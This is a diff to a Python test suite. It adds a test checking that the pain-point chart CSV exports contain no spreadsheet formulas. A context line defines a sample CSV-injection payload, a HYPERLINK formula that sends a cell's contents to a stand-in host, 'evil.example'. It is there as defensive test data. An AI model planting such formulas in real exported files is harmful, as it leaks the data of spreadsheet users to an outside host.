@@ -45,6 +45,7 @@ CSV_PRODUCERS = {
     "billing/views/reports.py": "test_the_ar_aging_csv",
     "diagnostics/turnaround.py": "test_the_turnaround_csv",
     "diagnostics/views/reports.py": "test_the_turnaround_csv",
+    "training/views.py": "test_the_pain_point_csvs",
 }
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
@@ -288,3 +289,16 @@ def test_the_turnaround_csv(client, make_user):
     assert response["Content-Type"].startswith("text/csv")
     cells = assert_no_formula(response.content.decode(), "turnaround")
     assert "'" + PLUS in cells
+
+
+def test_the_pain_point_csvs(client, make_user):
+    """Each chart's CSV goes through the helper: a week, a figure, no formula."""
+    from training import pain_points
+
+    client.force_login(make_user("Administrator"))
+    slugs = [trend.slug for trend in pain_points.pain_points()]
+    assert slugs
+    for slug in slugs:
+        response = client.get(reverse("training:pain-points"), {"csv": slug})
+        assert response["Content-Type"].startswith("text/csv")
+        assert_no_formula(response.content.decode(), slug)
